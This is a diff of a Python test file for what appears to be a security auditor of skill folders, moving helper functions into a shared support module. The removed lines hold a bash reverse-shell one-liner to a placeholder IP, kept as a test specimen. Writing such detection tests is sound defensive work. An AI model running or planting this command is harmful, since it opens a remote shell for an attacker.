@@ -19,27 +19,12 @@ from skillyard.audit.mdparse import LineIndex, segments
 from skillyard.audit.rules import load_rules
 from support.audit_devset import specimens, write_specimen
 from support.audit_devset_docs import doc_benign
-
-SHELL = "bash -i >& /dev/tcp/192.0.2.10/4444 0>&1"
+from support.audit_folder import SHELL, audit_files, skill
 
 
 def audit(tmp_path: Path, files: dict[str, str], description: str = "Helps with the build."
           ) -> tuple[str, set[str]]:
-    folder = tmp_path / "s"
-    for rel, text in files.items():
-        target = folder / rel
-        target.parent.mkdir(parents=True, exist_ok=True)
-        target.write_text(text)
-    if "SKILL.md" not in files:
-        (folder / "SKILL.md").write_text(f"---\nname: s\ndescription: {description}\n---\n\n"
-                                         "# S\n\nSee the references.\n")
-    result = Auditor().run_paths([str(folder)])[0]
-    return result.verdict, {f.rule for f in result.findings if f.severity in ("high",
-                                                                             "critical")}
-
-
-def skill(body: str, description: str = "Helps with the build.") -> str:
-    return f"---\nname: s\ndescription: {description}\n---\n\n{body}"
+    return audit_files(tmp_path, files, description, default_body="# S\n\nSee the references.\n")
 
 
 def block_reason(text: str, path: str = "references/guide.md", intent: str = "") -> str:
